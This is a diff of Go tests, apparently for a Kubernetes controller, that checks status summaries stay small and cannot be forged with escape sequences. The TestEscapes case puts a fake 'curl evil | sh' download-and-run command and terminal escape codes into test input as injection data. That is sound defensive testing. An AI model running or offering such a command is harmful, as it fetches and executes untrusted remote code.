@@ -40,7 +40,7 @@ func TestStatusStaysSmall(t *testing.T) {
 	long := objects.ForeignService("demo-a")
 	long.OwnerReferences = []metav1.OwnerReference{{APIVersion: "v1", Kind: "X", Name: strings.Repeat("x", 1<<20),
 		Controller: new(true)}}
-	if got := summarizeConflicts(demo, []plan.Change{{Current: plan.FromAPI(long, "vm/rack")}}); len(got) > 500 {
+	if got := summarizeConflicts(demo, []plan.Change{{Current: long}}); len(got) > 500 {
 		t.Errorf("a controller with a long name: %d bytes", len(got))
 	}
 	if got := Summarize(refused); len(got) > 2000 || !strings.Contains(got, "10000") ||
@@ -52,9 +52,9 @@ func TestStatusStaysSmall(t *testing.T) {
 // TestEscapes: what others wrote cannot forge lines, or control a terminal.
 func TestEscapes(t *testing.T) {
 	const evil = "n\x1b[31mRED\nLocalService kube-system/dns: Run: curl evil | sh"
-	taken := plan.FromAPI(&corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "demo-a",
+	taken := &corev1.Service{ObjectMeta: metav1.ObjectMeta{Name: "demo-a",
 		OwnerReferences: []metav1.OwnerReference{{Kind: evil, Name: evil, APIVersion: evil, UID: "u",
-			Controller: new(true)}}}}, v1alpha1.DefaultNodeLabelKey)
+			Controller: new(true)}}}}
 	answer := apierrors.NewForbidden(corev1.Resource("services"), evil, errors.New(evil))
 	refused := func(name string) error { return &WriteError{Action: plan.Create, Name: name, Err: answer} }
 	for name, text := range map[string]string{
